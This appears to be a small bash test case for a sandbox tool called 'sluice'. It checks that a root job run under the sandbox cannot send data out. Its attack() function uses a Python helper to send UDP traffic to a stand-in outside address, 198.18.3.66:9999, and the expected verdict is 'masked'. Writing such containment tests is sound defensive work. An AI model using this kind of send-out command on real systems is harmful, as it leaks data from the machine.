# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='The same as root under sluice run'
origin='issue 4'
reason='silent: no capability for it'
who=root forms=run verdict=masked
attack() { through_the_job "$PYTHON" "$TOOL/send.py" udp 198.18.3.66 9999 "$1"; }
